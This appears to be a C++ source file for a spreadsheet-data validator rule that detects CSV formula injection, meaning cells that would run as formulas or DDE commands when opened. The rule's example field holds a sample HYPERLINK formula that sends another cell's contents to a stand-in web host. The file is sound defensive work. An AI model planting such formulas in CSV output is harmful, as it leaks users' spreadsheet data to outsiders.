// SPDX-License-Identifier: Apache-2.0
#include <array>

#include "base/text.hpp"
#include "schema/formula_guard.hpp"
#include "validate/cells.hpp"
#include "validate/check.hpp"
#include "validate/rules/rules.hpp"

namespace tidytracker {
namespace {

/// A text that a spreadsheet program would run when it opens it from a CSV file: a function or a
/// command after one of the signs that open a formula. "- call the clerk", "+44 20 7946 0018" and
/// "@Jo: please call" are texts of honest trackers.
bool would_run(std::string_view text) {
    if (text.empty() || formula::k_openers.find(text.front()) == std::string_view::npos)
        return false;
    std::size_t at = text.find_first_not_of("=+-@\t\r");
    if (at == std::string_view::npos) return false;
    const std::size_t name = at;
    while (at < text.size() && (is_word_byte(text[at]) || text[at] == '.' || text[at] == '_')) ++at;
    if (at == name || at >= text.size()) return false;
    return text[at] == '(' || text[at] == '|' || text.find("|'", at) != std::string_view::npos;
}

void check_formula_injection(const Subject& subject, Findings& findings) {
    for_each_cell(subject, [&](const SourceReading& reading, const MappedTable& mapped,
                               const Row& row, const Cell& cell) {
        const std::string_view text = text_of(reading, cell);
        if (cell.formula || !would_run(text)) return;
        Finding finding = about_cells(k_formula_injection, reading, mapped.table.sheet,
                                      std::array{CellAddress{row.index, cell.column}},
                                      "this text would run as a formula in a spreadsheet program");
        finding.text = text;
        finding.note = "tidytracker writes such texts so that they do not run";
        finding.help = "ask where it comes from; put an apostrophe before it if it is only text";
        findings.push_back(std::move(finding));
    });
}

}  // namespace

constinit const Rule k_formula_injection{
    .name = "formula-injection",
    .family = Family::content,
    .severity = Severity::warning,
    .needs_source = true,
    .what =
        "Finds texts that a spreadsheet program would run as a formula if it opened them from a "
        "CSV file.",
    .why = "Such a formula can send the sheet to a stranger or start a program.",
    .example = "=HYPERLINK(\"http://example.org/?\"&A2, \"Open\")",
    .remedy = "Ask where the text comes from. If it is honest, put an apostrophe before it.",
    .related = "personal-contact-data",
    .check = check_formula_injection,
};

}  // namespace tidytracker
